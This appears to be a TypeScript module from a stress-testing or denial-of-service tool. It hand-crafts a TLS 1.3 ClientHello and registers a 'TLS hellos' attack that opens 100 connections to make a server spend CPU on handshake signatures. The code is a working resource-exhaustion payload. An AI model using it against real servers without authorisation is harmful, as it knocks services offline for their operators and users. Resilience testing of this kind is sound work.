/** What an attacker can send to a server of TLS: the beginning of a handshake, which costs the server a signature. Made by hand (RFC 8446). */
import { attack, type Attack } from "./attack.ts";

const [SUPPORTED_GROUPS, SIGNATURE_ALGORITHMS, SUPPORTED_VERSIONS, KEY_SHARE] = [10, 13, 43, 51] as const;
const X25519 = uint16(0x001d);
const TLS_1_3 = uint16(0x0304);
/** Of ECDSA and of RSA. */
const SIGNATURES = [0x0403, 0x0804, 0x0401].map(uint16);

export const TLS_ATTACKS: Readonly<Record<string, () => Attack>> = {
  // Who left at once would reset what the server has not read yet.
  "TLS hellos": () => attack([clientHello()], { dials: 100 }),
};

/** Its random numbers and the key that it shares are the same each time, which no server minds. */
function clientHello(): Buffer {
  const extensions = [
    extension(SUPPORTED_VERSIONS, vector(1, TLS_1_3)),
    extension(SUPPORTED_GROUPS, vector(2, X25519)),
    extension(SIGNATURE_ALGORITHMS, vector(2, ...SIGNATURES)),
    extension(KEY_SHARE, vector(2, X25519, vector(2, Buffer.alloc(32, 9)))),
  ];
  const cipherSuites = vector(2, uint16(0x1301));
  const noCompression = vector(1, Buffer.of(0));
  const hello = Buffer.concat([uint16(0x0303), Buffer.alloc(32, 1), vector(1), cipherSuites, noCompression, vector(2, ...extensions)]);
  const message = Buffer.concat([Buffer.of(1), vector(3, hello)]);
  return Buffer.concat([Buffer.of(22), uint16(0x0301), vector(2, message)]);
}

function extension(type: number, content: Buffer): Buffer {
  return Buffer.concat([uint16(type), vector(2, content)]);
}

/** Its content behind its length, which has so many bytes. */
function vector(lengthBytes: number, ...content: readonly Buffer[]): Buffer {
  const bytes = Buffer.concat(content);
  const length = Buffer.alloc(lengthBytes);
  length.writeUIntBE(bytes.byteLength, 0, lengthBytes);
  return Buffer.concat([length, bytes]);
}

function uint16(value: number): Buffer {
  return Buffer.of(value >>> 8, value & 0xff);
}
